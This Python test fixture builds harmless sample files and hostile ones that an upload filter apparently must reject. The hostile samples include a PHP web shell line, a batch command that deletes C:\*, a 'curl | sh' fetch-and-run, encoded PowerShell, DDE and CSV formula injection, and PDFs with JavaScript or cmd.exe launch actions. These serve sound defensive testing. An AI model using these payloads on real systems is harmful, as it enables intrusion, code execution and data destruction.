"""Small files of every kind that is kept, and some that are not."""

import zipfile
import zlib
from io import BytesIO

from engagements.rules import ENDINGS

PDF = b"%PDF-1.7\n1 0 obj << >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 16


def packed(*names: str, first: str = "") -> bytes:
    """An office document that holds these parts; `first` says of itself what an OpenDocument file says."""
    held = BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        if first:
            made.writestr("mimetype", first)
        for name in names:
            made.writestr(name, "<x/>")
    return held.getvalue()


def docx(*more: str) -> bytes:
    return packed("[Content_Types].xml", "word/document.xml", *more)


def holding(parts: dict[str, bytes | str], *names: str) -> bytes:
    """An office document with these parts, compressed."""
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        main = dict.fromkeys(("[Content_Types].xml", "word/document.xml", *names), "<x/>")
        for name, body in (main | parts).items():
            made.writestr(name, body)
    return held.getvalue()


def related(relation: str, target: str = "https://example.org/a", mode: str = "External") -> bytes:
    """A document with one relation to somewhere else."""
    tag = f'<Relationship Id="r1" Type="http://schemas/{relation}" Target="{target}" TargetMode="{mode}"/>'
    return holding({"word/_rels/settings.xml.rels": f"<Relationships>{tag}</Relationships>"})


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects; the first is its catalog."""
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(made))
    return made + head + table + trailer


def catalog(*more: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R %b >>" % b" ".join(more)


PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_INSIDE = zlib.compress(b"3 0 " + _SCRIPT)


def in_stream(packed: bytes, words: bytes) -> bytes:
    return b"<< /Type /ObjStm /N 1 /First 4 %b /Length %d >>\nstream\n%b\nendstream" % (words, len(packed), packed)


def open_document(media_type: str, *more: str) -> bytes:
    return packed("content.xml", *more, first=media_type)


KEPT = {
    ".pdf": PDF,
    ".png": PNG,
    ".jpg": JPEG,
    ".txt": "Grüße, Đorđe\n".encode(),
    ".docx": docx(),
    ".xlsx": packed("[Content_Types].xml", "xl/workbook.xml"),
    ".pptx": packed("[Content_Types].xml", "ppt/presentation.xml"),
} | {ending: open_document(media_type) for media_type, ending in ENDINGS.items() if "opendocument" in media_type}

REFUSED = {
    "nothing": b"",
    "a page": b"<!DOCTYPE html><script>alert(1)</script>",
    "a page after a mark and spaces": b"\xef\xbb\xbf \n<html>",
    "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a program": b"\x7fELF\x02\x01\x01" + b"\x00" * 9,
    "a Windows program": b"MZ\x90\x00" + b"\x00" * 12,
    "an old document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "an archive": packed("notes.txt"),
    "a program in Java": packed("META-INF/MANIFEST.MF", "Main.class"),
    "a document with macros": docx("word/vbaProject.bin"),
    "a document with controls": docx("word/activeX/activeX1.xml"),
    "an open document with macros": open_document(
        "application/vnd.oasis.opendocument.text", "Basic/Standard/script.xml"
    ),
    "a broken archive": b"PK\x03\x04" + b"\x00" * 30,
    "a workbook with macros of 1992": packed("[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/sheet1.xml"),
    "a workbook with dialogs of 1995": packed("[Content_Types].xml", "xl/workbook.xml", "xl/dialogsheets/sheet1.xml"),
    "a workbook that asks another": packed(
        "[Content_Types].xml", "xl/workbook.xml", "xl/externalLinks/externalLink1.xml"
    ),
    "a document with an object": docx("word/embeddings/oleObject1.bin"),
    "a document with a page inside": docx("word/afchunk.mht"),
    "an open document with an object": open_document("application/vnd.oasis.opendocument.text", "Object 1"),
    "a document renamed from one with macros": holding(
        {"[Content_Types].xml": '<x y="vnd.ms-word.document.macroEnabled.main+xml"/>'}
    ),
    "a document with a template from elsewhere": related("attachedTemplate"),
    "a document with a picture from elsewhere": related("image"),
    "a document with a frame from elsewhere": related("frame", mode="&#69;xternal"),
    "a document that starts a program": holding(
        {"word/document.xml": "<w:instrText>DDEAUTO cmd /c calc</w:instrText>"}
    ),
    "a document in UTF-16 that starts a program": holding({"word/document.xml": "<w:t>DDEAUTO</w:t>".encode("utf-16")}),
    "an open document with an event": holding(
        {"content.xml": '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'}
    ),
    "a document that unpacks to 200 MB": holding({"word/media/image1.png": b"\x00" * 50_000_000}),
    "a document of many parts": docx(*(f"word/{number}.xml" for number in range(5001))),
    "a PDF with a script": pdf(catalog(b"/OpenAction 3 0 R"), PAGES, _SCRIPT),
    "a PDF with a script under another name": pdf(
        catalog(b"/OpenAction 3 0 R"), PAGES, b"<< /S /J#61vaScript /#4aS (x) >>"
    ),
    "a PDF that launches": pdf(catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), PAGES),
    "a PDF with a file inside": pdf(catalog(b"/Names << /EmbeddedFiles << /Names [] >> >>"), PAGES),
    "a PDF with a form of programs": pdf(catalog(b"/AcroForm << /XFA 3 0 R >>"), PAGES),
    "a PDF with a script in a stream": pdf(catalog(), PAGES, in_stream(_INSIDE, b"/Filter /FlateDecode")),
    "a broken PDF with a script": pdf(catalog(b"/OpenAction 3 0 R"), PAGES, _SCRIPT)[:-30],
    "a PDF with a script behind a comment": b"%PDF-1.7\n%stream\n1 0 obj << /JS (x) >> endobj\n%endstream\n",
    "a batch file": b"\r\n@echo off\r\ndel /q C:\\*\r\n",
    "a shell script": b"#!/bin/sh\ncurl http://example.org | sh\n",
    "a script of Windows": b'\' minutes\nSet s = CreateObject("WScript.Shell")\n',
    "a command": b"Please run:\npowershell -enc SQBFAFgA\n",
    "a page in PHP": b"<?php system($_GET['c']); ?>",
    "a program in Python": b"# minutes\nimport os\nos.system ('id')\n",
    "rich text": b"{\\rtf1 {\\object\\objocx}}",
    "a table that starts a program": b"name;sum\nx;=cmd|' /C calc'!A0\n",
    "text with zeros": b"a\x00b",
    "no Unicode": "Grüße".encode("latin-1"),
}
